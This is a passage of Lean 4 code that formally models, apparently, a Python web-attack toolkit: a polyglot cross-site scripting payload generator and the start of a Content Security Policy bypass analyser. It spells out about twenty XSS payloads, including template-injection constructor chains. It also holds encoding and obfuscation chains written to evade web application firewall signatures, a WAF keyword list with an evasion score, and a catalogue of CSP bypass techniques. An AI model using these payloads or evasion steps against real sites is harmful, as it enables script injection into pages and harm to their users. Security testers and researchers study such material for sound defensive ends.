      new ++ ciReplaceAllAux old new fuel (s.drop old.length)
    else
      match s with
      | [] => []
      | c :: t => c :: ciReplaceAllAux old new fuel t

def ciReplaceAll (old new : Str) (s : Str) : Str := ciReplaceAllAux old new s.length s

end Py

/-!
Embedding of `polyglot/advanced_engine.py`.  Floats are embedded as exact
rationals.  The random calls of `_combine_components`, the `MIXED_CASE`
encoding and the `WHITESPACE_VARIATION` obfuscation consume the explicit
oracle supply.
-/

namespace Polyglot

inductive PolyglotContext where
  | HTML_CONTENT | HTML_ATTRIBUTE | HTML_ATTRIBUTE_UNQUOTED
  | JAVASCRIPT_STRING_SINGLE | JAVASCRIPT_STRING_DOUBLE | JAVASCRIPT_TEMPLATE
  | JAVASCRIPT_VARIABLE | JAVASCRIPT_COMMENT
  | CSS_PROPERTY | CSS_SELECTOR | CSS_COMMENT
  | URL_PARAMETER | URL_PATH | URL_FRAGMENT
  | JSON_VALUE | XML_CONTENT | XML_ATTRIBUTE | SQL_STRING | COMMAND_LINE
deriving DecidableEq, Repr

inductive EncodingTechnique where
  | NONE | HTML_ENTITIES | URL_ENCODING | DOUBLE_URL_ENCODING
  | UNICODE_ENCODING | HEX_ENCODING | BASE64_ENCODING | DECIMAL_ENCODING
  | OCTAL_ENCODING | MIXED_CASE | COMMENT_BREAKING
deriving DecidableEq, Repr

inductive ObfuscationTechnique where
  | STRING_CONCATENATION | FROMCHARCODE | EVAL_DECODE | WHITESPACE_VARIATION
  | BRACKET_NOTATION | PROPERTY_ACCESS | MATHEMATICAL_OPERATIONS
  | REGEX_ABUSE | TEMPLATE_LITERALS | CONSTRUCTOR_CHAINING
deriving DecidableEq, Repr

structure PolyglotComponent where
  content : Str
  contexts : List PolyglotContext
  priority : Nat
  encoding_safe : Bool := true
  comment_safe : Bool := true
  quote_safe : Bool := true
deriving DecidableEq, Repr

structure PolyglotPayload where
  payload : Str
  contexts : List PolyglotContext
  confidence : ℚ
  length : Nat
  complexity_score : ℚ
  encodings_used : List EncodingTechnique
  obfuscations_used : List ObfuscationTechnique
  components : List PolyglotComponent
  browser_compatibility : List (Str × ℚ)
  waf_evasion_score : ℚ
deriving DecidableEq, Repr

/-- `_initialize_base_components`, in source order. -/
def baseComponents : List PolyglotComponent :=
  [{ content := ("<script>alert(1)</script>".data),
     contexts := [.HTML_CONTENT], priority := 10 },
   { content := ("<img src=x onerror=alert(1)>".data),
     contexts := [.HTML_CONTENT, .HTML_ATTRIBUTE_UNQUOTED], priority := 9 },
   { content := ("<svg onload=alert(1)>".data),
     contexts := [.HTML_CONTENT], priority := 8 },
   { content := ("\" onmouseover=alert(1) \"".data),
     contexts := [.HTML_ATTRIBUTE], priority := 8 },
   { content := ("' onclick=alert(1) '".data),
     contexts := [.HTML_ATTRIBUTE], priority := 8 },
   { content := ("';alert(1);//".data),
     contexts := [.JAVASCRIPT_STRING_SINGLE], priority := 9 },
   { content := ("\";alert(1);//".data),
     contexts := [.JAVASCRIPT_STRING_DOUBLE], priority := 9 },
   { content := ("\x60);alert(1);//".data),
     contexts := [.JAVASCRIPT_TEMPLATE], priority := 7 },
   { content := ("javascript:alert(1)".data),
     contexts := [.URL_PARAMETER, .URL_PATH], priority := 7 },
   { content := ("expression(alert(1))".data),
     contexts := [.CSS_PROPERTY], priority := 6, comment_safe := false },
   { content := ("\x7dbody\x7bbackground:url(\"javascript:alert(1)\")".data),
     contexts := [.CSS_PROPERTY], priority := 6 },
   { content := ("</script><img src=x onerror=alert(1)>".data),
     contexts := [.JAVASCRIPT_STRING_SINGLE, .JAVASCRIPT_STRING_DOUBLE, .HTML_CONTENT],
     priority := 8 },
   { content := ("--></script><svg onload=alert(1)><!--".data),
     contexts := [.HTML_CONTENT, .CSS_COMMENT, .JAVASCRIPT_COMMENT], priority := 7 },
   { content := ("<details open ontoggle=alert(1)>".data),
     contexts := [.HTML_CONTENT], priority := 7 },
   { content := ("<video><source onerror=\"alert(1)\">".data),
     contexts := [.HTML_CONTENT], priority := 6 },
   { content := ("<audio src=x onerror=alert(1)>".data),
     contexts := [.HTML_CONTENT], priority := 6 },
   { content := ("<input autofocus onfocus=alert(1)>".data),
     contexts := [.HTML_CONTENT], priority := 6 },
   { content := ("<select onfocus=alert(1) autofocus>".data),
     contexts := [.HTML_CONTENT], priority := 5 },
   { content := ("\x7b\x7bconstructor.constructor(\"alert(1)\")()\x7d\x7d".data),
     contexts := [.HTML_CONTENT, .HTML_ATTRIBUTE], priority := 6 },
   { content := ("\x7b\x7b$root.constructor.constructor(\"alert(1)\")()\x7d\x7d".data),
     contexts := [.HTML_CONTENT, .HTML_ATTRIBUTE], priority := 5 }]

def encodingChains : List (List EncodingTechnique) :=
  [[.HTML_ENTITIES, .URL_ENCODING],
   [.UNICODE_ENCODING, .URL_ENCODING],
   [.DOUBLE_URL_ENCODING],
   [.BASE64_ENCODING, .URL_ENCODING],
   [.DECIMAL_ENCODING, .HEX_ENCODING],
   [.MIXED_CASE, .COMMENT_BREAKING]]

def obfuscationChains : List (List ObfuscationTechnique) :=
  [[.STRING_CONCATENATION, .BRACKET_NOTATION],
   [.FROMCHARCODE, .EVAL_DECODE],
   [.TEMPLATE_LITERALS, .MATHEMATICAL_OPERATIONS],
   [.CONSTRUCTOR_CHAINING, .PROPERTY_ACCESS],
   [.REGEX_ABUSE, .WHITESPACE_VARIATION]]

/-- `waf_signatures`, flattened in dict order for the counting loop of
`_calculate_waf_evasion_score`. -/
def wafSignatureList : List Str :=
  [("<script".data), ("script>".data), ("</script>".data),
   ("javascript:".data), ("vbscript:".data), ("data:".data),
   ("onload".data), ("onerror".data), ("onclick".data), ("onmouseover".data),
   ("alert".data), ("confirm".data), ("prompt".data), ("eval".data),
   ("expression".data), ("behavior".data), ("binding".data)]

def separators : List Str :=
  [[], ("<!--".data), ("*/".data), ("-->".data), ("//".data)]

def universalPatterns : List Str :=
  [("jaVasCript:/*-/*\x60/*\\\x60/*'/*\"/**/(/* */oNcliCk=alert() )//".data),
   ("\"-alert(1)-\"".data),
   ("'\"--></style></script><svg onload=alert()>".data)]

/-- `MIXED_CASE` encoding: one coin per alphabetic character
(`char.upper() if random.random() > 0.5 else char.lower()`). -/
def mixedCase (rng : List Nat) : Str → Str × List Nat
  | [] => ([], rng)
  | c :: t =>
    if c.isAlpha then
      let (b, rng') := Py.nextCoin rng
      let (rest, rng'') := mixedCase rng' t
      ((if b then c.toUpper else c.toLower) :: rest, rng'')
    else
      let (rest, rng') := mixedCase rng t
      (c :: rest, rng')

/-- `COMMENT_BREAKING` encoding: for each keyword present (lowercased
check), split it with `<!---->` via a case-insensitive `re.sub`. -/
def commentBreak (content : Str) : Str :=
  [("script".data), ("alert".data), ("javascript".data), ("eval".data)].foldl
    (fun acc kw =>
      if Py.containsSub (Py.lower acc) kw then
        Py.ciReplaceAll kw (kw.take (kw.length / 2) ++ ("<!---->".data)
                            ++ kw.drop (kw.length / 2)) acc
      else acc)
    content

/-- `_apply_encoding`. -/
def applyEncoding (rng : List Nat) (content : Str) :
    EncodingTechnique → Str × List Nat
  | .HTML_ENTITIES =>
    (Py.replaceAll ("&".data) ("&amp;".data)
      (Py.replaceAll ("'".data) ("&#x27;".data)
        (Py.replaceAll ("\"".data) ("&quot;".data)
          (Py.replaceAll (">".data) ("&gt;".data)
            (Py.replaceAll ("<".data) ("&lt;".data) content)))), rng)
  | .URL_ENCODING => (Py.urlQuote [] content, rng)
  | .DOUBLE_URL_ENCODING => (Py.urlQuote [] (Py.urlQuote [] content), rng)
  | .UNICODE_ENCODING =>
    (Py.concatMapStr (fun c =>
      if c.toNat > 127 || c ∈ ("<>\"'&".data) then ('\\' :: 'u' :: Py.hex4 c.toNat)
      else [c]) content, rng)
  | .HEX_ENCODING =>
    (Py.concatMapStr (fun c =>
      if c ∈ ("<>\"'&".data) then ('\\' :: 'x' :: Py.hex2 c.toNat)
      else [c]) content, rng)
  | .BASE64_ENCODING =>
    (("eval(atob('".data) ++ Py.b64encode content ++ ("'))".data), rng)
  | .DECIMAL_ENCODING =>
    (Py.concatMapStr (fun c =>
      if c ∈ ("<>\"'&".data) then ('&' :: '#' :: Py.natStr c.toNat ++ (";".data))
      else [c]) content, rng)
  | .MIXED_CASE => mixedCase rng content
  | .COMMENT_BREAKING => (commentBreak content, rng)
  | _ => (content, rng)

/-- `window\.(\w+)` → `window['\1']` (and likewise for `document`): the
`re.sub` of the `BRACKET_NOTATION` obfuscation. -/
def bracketSub (obj : Str) (s : Str) : Str :=
  match s with
  | [] => []
  | c :: t =>
    if h : (obj ++ (".".data)).isPrefixOf (c :: t)
           ∧ ((c :: t).drop (obj.length + 1)).takeWhile Re.wChar ≠ [] then
      let rest := (c :: t).drop (obj.length + 1)
      let w := rest.takeWhile Re.wChar
      obj ++ ("['".data) ++ w ++ ("']".data) ++ bracketSub obj (rest.drop w.length)
    else c :: bracketSub obj t
termination_by s.length
decreasing_by
  · simp only [List.length_drop, List.length_cons]
    omega
  · simp

/-- `WHITESPACE_VARIATION`: one coin per space of the original string, and
one whitespace choice when the coin fires. -/
def whitespaceVary (rng : List Nat) : Str → Str × List Nat
  | [] => ([], rng)
  | c :: t =>
    if c = ' ' then
      let (b, rng') := Py.nextCoin rng
      if b then
        let (w, rng'') := Py.nextChoiceChar ([' ', '\t', '\n', '\r', '\x0c', '\x0b'])
                            rng'
        let (rest, rng''') := whitespaceVary rng'' t
        (w :: rest, rng''')
      else
        let (rest, rng'') := whitespaceVary rng' t
        (c :: rest, rng'')
    else
      let (rest, rng') := whitespaceVary rng t
      (c :: rest, rng')

/-- `_apply_obfuscation`. -/
def applyObfuscation (rng : List Nat) (content : Str) :
    ObfuscationTechnique → Str × List Nat
  | .STRING_CONCATENATION =>
    let c₁ := if Py.containsSub content ("alert".data) then
                Py.replaceAll ("alert".data) ("'ale'+'rt'".data) content
              else content
    let c₂ := if Py.containsSub c₁ ("script".data) then
                Py.replaceAll ("script".data) ("'scr'+'ipt'".data) c₁
              else c₁
    (c₂, rng)
  | .FROMCHARCODE =>
    (if Py.containsSub content ("alert".data) then
       Py.replaceAll ("alert".data)
         ("String.fromCharCode(97,108,101,114,116)".data) content
     else content, rng)
  | .EVAL_DECODE =>
    (if content.length < 100 then
       ("eval(atob(\"".data) ++ Py.b64encode content ++ ("\"))".data)
     else content, rng)
  | .WHITESPACE_VARIATION => whitespaceVary rng content
  | .BRACKET_NOTATION =>
    (bracketSub ("document".data) (bracketSub ("window".data) content), rng)
  | .TEMPLATE_LITERALS =>
    (if Py.containsSub content ("alert".data) then
       Py.replaceAll ("alert".data) ("\x60ale$\x7b\"rt\"\x7d\x60".data) content
     else content, rng)
  | .MATHEMATICAL_OPERATIONS =>
    (if Py.containsSub content ("1".data) then
       Py.replaceAll ("1".data) ("(1+0)".data) content
     else content, rng)
  | .CONSTRUCTOR_CHAINING =>
    (if Py.containsSub content ("alert".data) then
       Py.replaceAll ("alert".data)
         ("[].constructor.constructor(\"alert\")".data) content
     else content, rng)
  | _ => (content, rng)

/-- Sort key of `_generate_basic_polyglots`'s component ranking:
`(priority, context-overlap)` compared lexicographically, descending. -/
def keyLe (x y : Nat × Nat) : Prop :=
  x.1 < y.1 ∨ (x.1 = y.1 ∧ x.2 ≤ y.2)

instance : DecidableRel keyLe := fun x y =>
  inferInstanceAs (Decidable (x.1 < y.1 ∨ (x.1 = y.1 ∧ x.2 ≤ y.2)))

def suitKey (targets : List PolyglotContext) (c : PolyglotComponent) : Nat × Nat :=
  (c.priority, (c.contexts.inter targets).length)

def suitRel (targets : List PolyglotContext) (a b : PolyglotComponent) : Prop :=
  keyLe (suitKey targets b) (suitKey targets a)

instance (targets : List PolyglotContext) : DecidableRel (suitRel targets) :=
  fun a b => inferInstanceAs (Decidable (keyLe _ _))

/-- Priority-descending order used inside `_combine_components`. -/
def priRel (a b : PolyglotComponent) : Prop := b.priority ≤ a.priority

instance : DecidableRel priRel := fun a b =>
  inferInstanceAs (Decidable (b.priority ≤ a.priority))

/-- `itertools.combinations(l, n)`, in itertools order. -/
def combosOf : Nat → List PolyglotComponent → List (List PolyglotComponent)
  | 0, _ => [[]]
  | _ + 1, [] => []
  | n + 1, x :: xs => (combosOf n xs).map (fun ys => x :: ys) ++ combosOf (n + 1) xs

/-- The accumulation loop of `_combine_components`: first component as-is,
comment-safe components wrapped in `/*...*/`, others prefixed by an
oracle-chosen separator. -/
def combineRest (rng : List Nat) (acc : Str) :
    List PolyglotComponent → Str × List Nat
  | [] => (acc, rng)
  | comp :: rest =>
    if comp.comment_safe then
      combineRest rng (acc ++ ("/*".data) ++ comp.content ++ ("*/".data)) rest
    else
      let (sep, rng') := Py.nextChoice separators rng
      combineRest rng' (acc ++ sep ++ comp.content) rest

/-- `_combine_components`. -/
def combineComponents (rng : List Nat) (comps : List PolyglotComponent) :
    Str × List Nat :=
  match comps with
  | [c] => (c.content, rng)
  | _ =>
    let sorted := List.insertionSort priRel comps
    let (combined, rng₁) :=
      match sorted with
      | [] => (([] : Str), rng)
      | first :: rest => combineRest rng first.content rest
    let (coin, rng₂) := Py.nextCoin rng₁
    if coin ∧ combined.length < 300 then
      let (pat, rng₃) := Py.nextChoice universalPatterns rng₂
      (pat ++ combined, rng₃)
    else (combined, rng₂)

/-- The record built for one accepted component combination. -/
def mkBasicPayload (combined : Str) (combo : List PolyglotComponent) :
    PolyglotPayload :=
  { payload := combined
    contexts := ((combo.map (fun c => c.contexts)).flatten).dedup
    confidence := 0
    length := combined.length
    complexity_score := 0
    encodings_used := []
    obfuscations_used := []
    components := combo
    browser_compatibility := []
    waf_evasion_score := 0 }

/-- The combination loop of `_generate_basic_polyglots`: combinations whose
combined payload fits in `max_length` are kept. -/
def basicLoop (maxLen : Nat) (rng : List Nat) :
    List (List PolyglotComponent) → List PolyglotPayload × List Nat
  | [] => ([], rng)
  | combo :: rest =>
    let (combined, rng') := combineComponents rng combo
    let (tail, rng'') := basicLoop maxLen rng' rest
    if combined.length ≤ maxLen then (mkBasicPayload combined combo :: tail, rng'')
    else (tail, rng'')

/-- `_generate_basic_polyglots`. -/
def generateBasicPolyglots (rng : List Nat) (targets : List PolyglotContext)
    (maxLen : Nat) : List PolyglotPayload × List Nat :=
  let suitable := baseComponents.filter (fun c => !(c.contexts.inter targets).isEmpty)
  let sorted := List.insertionSort (suitRel targets) suitable
  let nums := List.range' 1 (min 3 suitable.length)
  basicLoop maxLen rng ((nums.map (fun n => combosOf n (sorted.take 8))).flatten)

/-- The inner chain loop of `_generate_encoded_polyglots`: apply each step,
keep it while the result still fits, stop the chain otherwise. -/
def encChainLoop (maxLen : Nat) (rng : List Nat) (content : Str)
    (used : List EncodingTechnique) :
    List EncodingTechnique → Str × List EncodingTechnique × List Nat
  | [] => (content, used, rng)
  | enc :: rest =>
    let (newC, rng') := applyEncoding rng content enc
    if newC.length ≤ maxLen then encChainLoop maxLen rng' newC (used ++ [enc]) rest
    else (content, used, rng')

/-- One base payload against every encoding chain. -/
def encodeOne (maxLen : Nat) (rng : List Nat) (base : PolyglotPayload) :
    List (List EncodingTechnique) → List PolyglotPayload × List Nat
  | [] => ([], rng)
  | chain :: chains =>
    let (content, used, rng') := encChainLoop maxLen rng base.payload [] chain
    let (tail, rng'') := encodeOne maxLen rng' base chains
    if used ≠ [] ∧ content ≠ base.payload then
      ({ payload := content
         contexts := base.contexts
         confidence := 0
         length := content.length
         complexity_score := 0
         encodings_used := used
         obfuscations_used := []
         components := base.components
         browser_compatibility := []
         waf_evasion_score := 0 } :: tail, rng'')
    else (tail, rng'')

/-- `_generate_encoded_polyglots`. -/
def generateEncodedPolyglots (rng : List Nat) (bases : List PolyglotPayload)
    (maxLen : Nat) : List PolyglotPayload × List Nat :=
  match bases with
  | [] => ([], rng)
  | base :: rest =>
    let (first, rng') := encodeOne maxLen rng base encodingChains
    let (tail, rng'') := generateEncodedPolyglots rng' rest maxLen
    (first ++ tail, rng'')

def obfChainLoop (maxLen : Nat) (rng : List Nat) (content : Str)
    (used : List ObfuscationTechnique) :
    List ObfuscationTechnique → Str × List ObfuscationTechnique × List Nat
  | [] => (content, used, rng)
  | obf :: rest =>
    let (newC, rng') := applyObfuscation rng content obf
    if newC.length ≤ maxLen then obfChainLoop maxLen rng' newC (used ++ [obf]) rest
    else (content, used, rng')

/-- One base payload against the first three obfuscation chains. -/
def obfuscateOne (maxLen : Nat) (rng : List Nat) (base : PolyglotPayload) :
    List (List ObfuscationTechnique) → List PolyglotPayload × List Nat
  | [] => ([], rng)
  | chain :: chains =>
    let (content, used, rng') := obfChainLoop maxLen rng base.payload [] chain
    let (tail, rng'') := obfuscateOne maxLen rng' base chains
    if used ≠ [] ∧ content ≠ base.payload then
      ({ payload := content
         contexts := base.contexts
         confidence := 0
         length := content.length
         complexity_score := 0
         encodings_used := base.encodings_used
         obfuscations_used := used
         components := base.components
         browser_compatibility := []
         waf_evasion_score := 0 } :: tail, rng'')
    else (tail, rng'')

/-- `_generate_obfuscated_polyglots` (only the first three chains are
tried, as in the source). -/
def generateObfuscatedPolyglots (rng : List Nat) (bases : List PolyglotPayload)
    (maxLen : Nat) : List PolyglotPayload × List Nat :=
  match bases with
  | [] => ([], rng)
  | base :: rest =>
    let (first, rng') := obfuscateOne maxLen rng base (obfuscationChains.take 3)
    let (tail, rng'') := generateObfuscatedPolyglots rng' rest maxLen
    (first ++ tail, rng'')

/-- `browser_modifications` with the `zip(prefixes, suffixes)` of the source
already performed (`zip` truncates to the shorter list, so Chrome
contributes a single pair). -/
def browserModifications : List (Str × List (Str × Str)) :=
  [(("chrome".data), [(("<details open ontoggle=".data), (">".data))]),
   (("firefox".data), [(("<xul:script>".data), ("</xul:script>".data)),
                       (("<browser onload=".data), (">".data))]),
   (("safari".data), [(("<webkit>".data), ("</webkit>".data)),
                      (("<video autoplay oncanplay=".data), (">".data))]),
   (("ie".data), [(("<xml>".data), ("</xml>".data)),
                  (("<object data=\"javascript:".data), ("\">".data))])]

/-- `_generate_browser_specific_polyglots` (no randomness involved). -/
def generateBrowserSpecificPolyglots (bases : List PolyglotPayload)
    (targetBrowsers : List Str) (maxLen : Nat) : List PolyglotPayload :=
  ((bases.take 3).map (fun base =>
    (targetBrowsers.map (fun browser =>
      match browserModifications.lookup browser with
      | none => []
      | some pairs =>
        (pairs.map (fun pr =>
          let modified := pr.1 ++ base.payload ++ pr.2
          if modified.length ≤ maxLen then
            [{ payload := modified
               contexts := base.contexts
               confidence := 0
               length := modified.length
               complexity_score := 0
               encodings_used := base.encodings_used
               obfuscations_used := base.obfuscations_used
               components := base.components
               browser_compatibility := [(browser, 9/10)]
               waf_evasion_score := 0 }]
          else [])).flatten)).flatten)).flatten

/-- `_calculate_confidence`. -/
def calcConfidence (p : PolyglotPayload) (targets : List PolyglotContext) : ℚ :=
  let coverage : ℚ :=
    if targets.isEmpty then 0
    else ((p.contexts.inter targets).length : ℚ) / (targets.length : ℚ)
  let avgPriority : ℚ :=
    if p.components.isEmpty then 0
    else ((p.components.map (fun c => c.priority)).sum : ℚ) / (p.components.length : ℚ)
  let c₀ : ℚ := 1/2 + coverage * (3/10) + (avgPriority / 10) * (2/10)
  let c₁ : ℚ :=
    if p.length < 100 then c₀ + 1/10
    else if p.length > 300 then c₀ - 1/10
    else c₀
  let c₂ : ℚ :=
    if !p.encodings_used.isEmpty then c₁ - (p.encodings_used.length : ℚ) * (5/100)
    else c₁
  let c₃ : ℚ :=
    if !p.obfuscations_used.isEmpty then c₂ + (p.obfuscations_used.length : ℚ) * (3/100)
    else c₂
  min 1 (max 0 c₃)

/-- `_calculate_browser_compatibility`. -/
def calcBrowserCompat (p : PolyglotPayload) : List (Str × ℚ) :=
  ([("chrome".data), ("firefox".data), ("safari".data), ("ie".data),
    ("edge".data)]).map (fun browser =>
    let s₀ : ℚ := 7/10
    let s₁ := if Py.containsSub p.payload ("<script>".data) then s₀ + 2/10 else s₀
    let s₂ := if Py.containsSub p.payload ("onerror=".data) then s₁ + 15/100 else s₁
    let s₃ :=
      if Py.containsSub p.payload ("javascript:".data) then
        if browser = ("ie".data) then s₂ + 1/10 else s₂ - 5/100
      else s₂
    let s₄ :=
      if [("<details>".data), ("<video>".data), ("<audio>".data)].any
           (fun t => Py.containsSub p.payload t) then
        if browser ∈ [("chrome".data), ("firefox".data), ("safari".data)] then
          s₃ + 1/10
        else if browser = ("ie".data) then s₃ - 2/10
        else s₃
      else s₃
    let s₅ := if Py.containsSub p.payload ("\x7b\x7b".data) then s₄ + 5/100 else s₄
    (browser, min 1 (max 0 s₅)))

/-- `_calculate_waf_evasion_score`.  (The mixed-case bonus tests
`c.isupper() and c.islower()`, which no character satisfies; it is embedded
verbatim.) -/
def calcWafEvasion (p : PolyglotPayload) : ℚ :=
  let sigCount : Nat :=
    (wafSignatureList.filter (fun sig =>
      Py.containsSub (Py.lower p.payload) (Py.lower sig))).length
  let s₀ : ℚ := 1/2 - (sigCount : ℚ) * (1/10)
  let s₁ := if !p.encodings_used.isEmpty then
              s₀ + (p.encodings_used.length : ℚ) * (1/10) else s₀
  let s₂ := if !p.obfuscations_used.isEmpty then
              s₁ + (p.obfuscations_used.length : ℚ) * (15/100) else s₁
  let s₃ := if Py.containsSub p.payload ("<!--".data)
               || Py.containsSub p.payload ("/*".data) then s₂ + 1/10 else s₂
  let s₄ := if p.payload.any (fun c => c.isAlpha && (c.isUpper && c.isLower)) then
              s₃ + 5/100 else s₃
  min 1 (max 0 s₄)

/-- `_calculate_complexity_score`. -/
def calcComplexity (p : PolyglotPayload) : ℚ :=
  let s : ℚ :=
    min ((p.length : ℚ) / 100) 3
    + (p.components.length : ℚ) * (5/10)
    + (p.encodings_used.length : ℚ) * (8/10)
    + (p.obfuscations_used.length : ℚ) * 1
    + (p.contexts.length : ℚ) * (3/10)
  min 10 s

/-- Confidence-descending order for the final sort. -/
def confRel (a b : PolyglotPayload) : Prop := b.confidence ≤ a.confidence

instance : DecidableRel confRel := fun a b =>
  inferInstanceAs (Decidable (b.confidence ≤ a.confidence))

instance : IsTotal PolyglotPayload confRel :=
  ⟨fun a b => (le_total b.confidence a.confidence).elim Or.inl Or.inr⟩

instance : IsTrans PolyglotPayload confRel :=
  ⟨fun _ _ _ h₁ h₂ => le_trans h₂ h₁⟩

/-- `generate_polyglots`: basics, encoded variants, optional obfuscated
variants, optional browser-specific variants; assign the four scores to
every payload; sort by confidence descending (`list.sort` is stable, and so
is `insertionSort`); return the first `max_payloads`. -/
def generatePolyglots (rng : List Nat) (targets : List PolyglotContext)
    (maxLen : Nat) (maxPayloads : Nat) (includeObfuscation : Bool)
    (targetBrowsers : Option (List Str)) : List PolyglotPayload :=
  let (basics, rng₁) := generateBasicPolyglots rng targets maxLen
  let (encoded, rng₂) := generateEncodedPolyglots rng₁ basics maxLen
  let (obfuscated, _) :=
    if includeObfuscation then generateObfuscatedPolyglots rng₂ basics maxLen
    else ([], rng₂)
  let browserP :=
    match targetBrowsers with
    | some bs => generateBrowserSpecificPolyglots basics bs maxLen
    | none => []
  let payloads := basics ++ encoded ++ obfuscated ++ browserP
  let scored := payloads.map (fun p =>
    { p with confidence := calcConfidence p targets
             browser_compatibility := calcBrowserCompat p
             waf_evasion_score := calcWafEvasion p
             complexity_score := calcComplexity p })
  (List.insertionSort confRel scored).take maxPayloads

end Polyglot

/-!
Embedding of `csp/bypass_analyzer.py`.  Python dicts keyed by directives
are embedded as insertion-ordered association lists with unique keys;
Python sets of source expressions as duplicate-free lists in insertion
order.
-/

namespace CSP

inductive CSPDirective where
  | SCRIPT_SRC | OBJECT_SRC | STYLE_SRC | IMG_SRC | MEDIA_SRC | FONT_SRC
  | CONNECT_SRC | CHILD_SRC | FRAME_SRC | WORKER_SRC | MANIFEST_SRC
  | PREFETCH_SRC | NAVIGATE_TO | FORM_ACTION | FRAME_ANCESTORS | BASE_URI
  | PLUGIN_TYPES | SANDBOX | REPORT_URI | REPORT_TO | DEFAULT_SRC
  | UPGRADE_INSECURE_REQUESTS | BLOCK_ALL_MIXED_CONTENT | REQUIRE_SRI_FOR
deriving DecidableEq, Repr

def CSPDirective.val : CSPDirective → Str
  | .SCRIPT_SRC => ("script-src".data)
  | .OBJECT_SRC => ("object-src".data)
  | .STYLE_SRC => ("style-src".data)
  | .IMG_SRC => ("img-src".data)
  | .MEDIA_SRC => ("media-src".data)
  | .FONT_SRC => ("font-src".data)
  | .CONNECT_SRC => ("connect-src".data)
  | .CHILD_SRC => ("child-src".data)
  | .FRAME_SRC => ("frame-src".data)
  | .WORKER_SRC => ("worker-src".data)
  | .MANIFEST_SRC => ("manifest-src".data)
  | .PREFETCH_SRC => ("prefetch-src".data)
  | .NAVIGATE_TO => ("navigate-to".data)
  | .FORM_ACTION => ("form-action".data)
  | .FRAME_ANCESTORS => ("frame-ancestors".data)
  | .BASE_URI => ("base-uri".data)
  | .PLUGIN_TYPES => ("plugin-types".data)
  | .SANDBOX => ("sandbox".data)
  | .REPORT_URI => ("report-uri".data)
  | .REPORT_TO => ("report-to".data)
  | .DEFAULT_SRC => ("default-src".data)
  | .UPGRADE_INSECURE_REQUESTS => ("upgrade-insecure-requests".data)
  | .BLOCK_ALL_MIXED_CONTENT => ("block-all-mixed-content".data)
  | .REQUIRE_SRI_FOR => ("require-sri-for".data)

/-- `CSPDirective` members in declaration order (`for d in CSPDirective`). -/
def allDirectives : List CSPDirective :=
  [.SCRIPT_SRC, .OBJECT_SRC, .STYLE_SRC, .IMG_SRC, .MEDIA_SRC, .FONT_SRC,
   .CONNECT_SRC, .CHILD_SRC, .FRAME_SRC, .WORKER_SRC, .MANIFEST_SRC,
   .PREFETCH_SRC, .NAVIGATE_TO, .FORM_ACTION, .FRAME_ANCESTORS, .BASE_URI,
   .PLUGIN_TYPES, .SANDBOX, .REPORT_URI, .REPORT_TO, .DEFAULT_SRC,
   .UPGRADE_INSECURE_REQUESTS, .BLOCK_ALL_MIXED_CONTENT, .REQUIRE_SRI_FOR]

inductive CSPKeyword where
  | SELF | UNSAFE_INLINE | UNSAFE_EVAL | UNSAFE_HASHES | STRICT_DYNAMIC
  | NONE | REPORT_SAMPLE
deriving DecidableEq, Repr

def CSPKeyword.val : CSPKeyword → Str
  | .SELF => ("'self'".data)
  | .UNSAFE_INLINE => ("'unsafe-inline'".data)
  | .UNSAFE_EVAL => ("'unsafe-eval'".data)
  | .UNSAFE_HASHES => ("'unsafe-hashes'".data)
  | .STRICT_DYNAMIC => ("'strict-dynamic'".data)
  | .NONE => ("'none'".data)
  | .REPORT_SAMPLE => ("'report-sample'".data)

def allKeywords : List CSPKeyword :=
  [.SELF, .UNSAFE_INLINE, .UNSAFE_EVAL, .UNSAFE_HASHES, .STRICT_DYNAMIC,
   .NONE, .REPORT_SAMPLE]

inductive BypassTechnique where
  | UNSAFE_INLINE | UNSAFE_EVAL | JSONP_CALLBACK | ANGULAR_INJECTION
  | VUE_INJECTION | REACT_INJECTION | SCRIPT_GADGET | BASE_URI_INJECTION
  | LOCATION_HASH | IFRAME_SRCDOC | DATA_URI | BLOB_URI | JAVASCRIPT_URI
  | WHITELISTED_DOMAIN | STRICT_DYNAMIC_ABUSE | NONCE_PREDICTION
  | HASH_COLLISION | MIXED_CONTENT | FORM_ACTION_BYPASS | META_REFRESH
deriving DecidableEq, Repr

/-- `BypassTechnique` members in declaration order. -/
def allBypassTechniques : List BypassTechnique :=
  [.UNSAFE_INLINE, .UNSAFE_EVAL, .JSONP_CALLBACK, .ANGULAR_INJECTION,
   .VUE_INJECTION, .REACT_INJECTION, .SCRIPT_GADGET, .BASE_URI_INJECTION,
   .LOCATION_HASH, .IFRAME_SRCDOC, .DATA_URI, .BLOB_URI, .JAVASCRIPT_URI,
   .WHITELISTED_DOMAIN, .STRICT_DYNAMIC_ABUSE, .NONCE_PREDICTION,
   .HASH_COLLISION, .MIXED_CONTENT, .FORM_ACTION_BYPASS, .META_REFRESH]

structure CSPDirectiveConfig where
  directive : CSPDirective
  sources : List Str
  keywords : List CSPKeyword
  nonces : List Str := []
  hashes : List Str := []
  is_restrictive : Bool := true
  bypass_risk : Str := ("low".data)
deriving DecidableEq, Repr

structure CSPBypassPayload where
  technique : BypassTechnique
  payload : Str
  description : Str
  requirements : List Str
  confidence : ℚ
  affected_directives : List CSPDirective
  payload_category : Str
  exploitation_steps : List Str
deriving DecidableEq, Repr

abbrev CSPDict := List (CSPDirective × CSPDirectiveConfig)

structure CSPAnalysisResult where
  policy_header : Str
  directives : CSPDict
  bypass_opportunities : List CSPBypassPayload
  security_score : ℚ
  critical_issues : List Str
  recommendations : List Str
  is_bypassable : Bool
  bypass_summary : Str
deriving DecidableEq, Repr

/-- Python dict assignment `d[k] = v`: overwrite in place, append new keys. -/
def dictInsert (k : CSPDirective) (v : CSPDirectiveConfig) (d : CSPDict) : CSPDict :=
  if d.any (fun pr => pr.1 = k) then
    d.map (fun pr => if pr.1 = k then (k, v) else pr)
  else d ++ [(k, v)]

/-- Python set `add`: ignore duplicates, keep first-insertion order. -/
def setInsert (x : Str) (s : List Str) : List Str :=
  if x ∈ s then s else s ++ [x]

def commonWhitelistDomains : List Str :=
  [("googleapis.com".data), ("google.com".data), ("gstatic.com".data),
   ("ajax.googleapis.com".data), ("cdnjs.cloudflare.com".data),
   ("code.jquery.com".data), ("maxcdn.bootstrapcdn.com".data),
   ("unpkg.com".data), ("cdn.jsdelivr.net".data),
   ("raw.githubusercontent.com".data), ("github.io".data),
   ("netlify.app".data), ("herokuapp.com".data), ("firebaseapp.com".data)]

/-- `_is_directive_restrictive`. -/
def isDirectiveRestrictive (keywords : List CSPKeyword) (sources : List Str) : Bool :=
  if ([CSPKeyword.UNSAFE_INLINE, .UNSAFE_EVAL, .UNSAFE_HASHES]).any
